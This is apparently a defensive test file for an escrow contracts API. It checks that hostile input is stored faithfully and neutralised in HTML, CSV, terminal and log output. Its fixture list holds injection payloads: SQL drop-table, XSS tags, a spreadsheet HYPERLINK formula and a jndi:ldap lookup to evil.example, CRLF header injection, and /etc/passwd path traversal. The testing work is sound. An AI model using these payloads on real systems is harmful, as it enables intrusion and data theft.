import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { inert } from '../../api/statement/csv';
import { idOf, runningStack } from '../rules/stack';
import { typeOps } from '../support/ops';

/** What people may write, and what might be made of it by SQL, a page, a spreadsheet, a terminal, a log or Temporal. */
const stack = runningStack();
const { alice, bob, acme, olga } = stack;

const texts: readonly (readonly [string, string])[] = [
  ['SQL', `'); drop table contracts; -- ? ?? $1 :name :name: ~ \\'`],
  ['HTML', `<script>alert(1)</script><img src=x onerror="alert(1)">&amp;&#60;`],
  ['Markdown', '[x](javascript:1) ![y](https://evil.example/p) `a` **b** | c | <a href=d>\n# e\n- f'],
  ['a formula', '=HYPERLINK("https://evil.example";"click")'],
  ['a formula in another cell', 'a;=1+1\t=2+2\n@SUM(A1)\r+3'],
  ['terminal control', '\u001b[2J\u001b]0;owned\u0007\u009b31m\u0008\u007f'],
  ['a line that looks like ours', 'x\nops can     nothing\r\n{"level":30,"msg":"all is well"}'],
  ['a header', 'x\r\nSet-Cookie: a=b\r\n\r\n<html>'],
  ['a query of Temporal', `" or ExecutionStatus = "Running' or 1=1 --`],
  ['a path', '../../../../etc/passwd%00%2e%2e%2f..\\..\\'],
  ['bidirectional overrides', 'alice\u202Etnuoma eht\u202C \u2066x\u2069 \u200F\u061C'],
  ['zero width', 'a\u200Bb\u200Cc\u200Dd\uFEFFe\u00ADf\u2060g'],
  ['separators', 'a\u2028b\u2029c\u0085d\u00A0e\u3000f'],
  ['graphemes', `${'Z̷̡̢̛̭̜̠̈́̀͗͂'.repeat(6)} 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 é é ﷽`],
  ['no characters', '\ufffe\uffff\u{10ffff}\ufffd'],
  ['names of a prototype', '__proto__'],
  ['templates', '\u0024{7*7} {{7*7}} #{7*7} %s %n %d <%= 7*7 %> \u0024{jndi:ldap://evil.example/a}'],
];

/** Control characters, and what turns a line round. */
const acts = /(?!\n)[\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

test.each(texts)('%s: given back as it came, and nothing more, everywhere', async (_, text) => {
  const attachments = [{ name: text, url: `https://files.example/?q=${encodeURIComponent(text)}` }];
  const job = await acme.opens('/v1/contracts', {
    ...{ title: text, clientId: 'alice', freelancerId: 'bob', currency: 'USD' },
  });
  const milestone = await alice.opens(`${job}/milestones`, { title: text, description: text, amount: 1500 });
  await alice.does(`${milestone}/fund`);
  await bob.does(`${milestone}/submit`, { message: text, attachments });
  await olga.does(`${milestone}/hold`, { reason: text });

  const contract = await alice.sees(job);
  expect(contract).toMatchObject({ title: text, milestones: [{ title: text, description: text }] });
  expect(await bob.sees(milestone)).toMatchObject({
    ...{ title: text, description: text, hold: { reason: text } },
    submissions: [{ message: text, attachments }],
  });
  const { data } = await bob.sees(`${milestone}/events?limit=100`);
  expect(data.map((event: { data: { message?: string } }) => event.data?.message).filter(Boolean)).toEqual([
    text,
  ]);

  const page = (await alice.get(`${job}/statement?format=html`)).body as string;
  expect(page).not.toContain('<script');
  expect(page).not.toContain('<img');
  const csv = (await alice.get(`${job}/statement?format=csv`)).body as string;
  expect(csv).not.toMatch(/(^|[\n\r;,\t])"?\s*[=+@]/);

  const token = await stack.api.token('ops', 'olga');
  for (const path of [job, milestone]) {
    const env = { ESCROW_TOKEN: token, ESCROW_URL: stack.api.url };
    const shown = await typeOps(env, ['show', idOf(path)]);
    expect(shown).toMatchObject({ code: 0, err: '' });
    expect(shown.out).not.toMatch(acts);
    expect(shown.out.split('\n').filter((line) => line.startsWith('ops can')).length).toBeLessThan(2);
    const json = JSON.parse((await typeOps(env, ['show', idOf(path), '--json'])).out);
    expect((json.milestone ?? json.contract).title).toBe(text);
  }
});

describe('what Postgres cannot keep, or what is no text at all, is 400, and says where', () => {
  const post = async (body: string | Buffer) => {
    const headers = {
      ...{
        authorization: `Bearer ${await stack.api.token('platform', 'acme')}`,
        'idempotency-key': randomUUID(),
      },
      ...{ 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
    };
    return new Promise<{ status: number; body: { code: string; errors?: { path: string }[] } }>(
      (resolve, reject) => {
        const asked = httpRequest(`${stack.api.url}/v1/contracts`, { method: 'POST', headers }, (answer) => {
          const parts: Buffer[] = [];
          answer.on('data', (part: Buffer) => parts.push(part));
          answer.on('end', () =>
            resolve({ status: answer.statusCode ?? 0, body: JSON.parse(Buffer.concat(parts).toString()) }),
          );
        });
        asked.on('error', reject);
        asked.end(body);
      },
    );
  };
  const terms = (title: string, client = 'alice') =>
    `{"title":${title},"clientId":"${client}","freelancerId":"bob","currency":"USD"}`;

  test.each([
    ['NUL', '"a\\u0000b"'],
    ['the first half of a surrogate pair', '"\\ud83d"'],
    ['the second half', '"\\ude00 x"'],
    ['halves the wrong way round', '"\\ude00\\ud83d"'],
    ['256 characters', `"${'x'.repeat(256)}"`],
    ['nothing', '""'],
  ])('%s', async (_, title) => {
    const answer = await post(terms(title));
    expect(answer).toMatchObject({
      status: 400,
      body: { code: 'invalid_request', errors: [{ path: '/title' }] },
    });
  });

  test.each([
    ['a byte that is none of UTF-8', Buffer.from([0xff])],
    ['an overlong slash', Buffer.from([0xc0, 0xaf])],
    ['half a surrogate pair in UTF-8', Buffer.from([0xed, 0xa0, 0xbd])],
    ['the first byte of a character', Buffer.from([0xe2])],
    ['Latin-1', Buffer.from('é', 'latin1')],
  ])('%s', async (_, bytes) => {
    const [before = '', after = ''] = terms('"x@y"').split('@');
    const answer = await post(Buffer.concat([Buffer.from(before), bytes, Buffer.from(after)]));
    expect(answer).toMatchObject({ status: 400, body: { code: 'malformed_json' } });
  });

  test.each([
    'a b',
    'a\u00a0b',
    'a\u200bb',
    'a\u202eb',
    'a\tb',
    '\u001b[0m',
    'a\ue000',
    ' a',
    'x'.repeat(256),
  ])('a user %j', async (client) => {
    const answer = await post(terms('"x"', JSON.stringify(client).slice(1, -1)));
    expect(answer).toMatchObject({ status: 400, body: { errors: [{ path: '/clientId' }] } });
  });

  test('a body that names itself to be in another coding', async () => {
    const headers = {
      authorization: `Bearer ${await stack.api.token('platform', 'acme')}`,
      'idempotency-key': 'x',
    };
    for (const type of [
      'application/json; charset=utf-7',
      'application/json; charset=latin1',
      'text/json',
      'text/plain',
    ]) {
      const init = { headers: { ...headers, 'content-type': type }, body: terms('"x"') };
      expect([type, (await stack.api.send('POST', '/v1/contracts', init)).status]).toEqual([type, 415]);
    }
    const bomb = { ...headers, 'content-type': 'application/json', 'content-encoding': 'gzip' };
    expect((await stack.api.send('POST', '/v1/contracts', { headers: bomb, body: 'x' })).status).toBe(415);
  });
});

test.each([
  `o'brien";--`,
  'bob:USD',
  'platform:acme',
  '%2e%2e%2f',
  '<b>',
  'ბობ',
  '界',
  'a@b.example',
  '__proto__',
])('a user called %j sees his own and nobody else his', async (name) => {
  const terms = { title: 'x', clientId: name, freelancerId: 'bob', currency: 'USD' };
  const job = await acme.opens('/v1/contracts', terms);
  const [one] = (await stack.as('client', name).sees('/v1/contracts')).data;
  expect(one).toMatchObject({ id: idOf(job), clientId: name });
  const listed = await acme.sees(`/v1/contracts?clientId=${encodeURIComponent(name)}`);
  expect(listed.data.map(({ id }: { id: string }) => id)).toEqual([idOf(job)]);
  const acting = stack.as('platform', 'acme', `client ${encodeURIComponent(name)}`);
  expect((await acting.sees('/v1/contracts')).data).toHaveLength(1);
  expect((await stack.as('client', `${name}x`).sees('/v1/contracts')).data).toEqual([]);
});

test('CSV: what would begin a cell in any spreadsheet is text', () => {
  expect(inert('a;=1')).toBe(`a;'=1`);
  expect(inert('a\n =1')).toBe(`a\n '=1`);
  expect(inert('a;\t@x')).toBe(`a;\t'@x`);
  expect(inert('1-2; a+b = c')).toBe('1-2; a+b = c');
});

test("a request's id that is not of an id's shape is replaced, and never repeated", async () => {
  for (const id of ['x'.repeat(65), '<script>', 'a b', '\u0024{x}', '%0d%0aSet-Cookie:a=b']) {
    const { headers } = await stack.api.send('GET', '/healthz', { headers: { 'x-request-id': id } });
    expect(headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  }
});
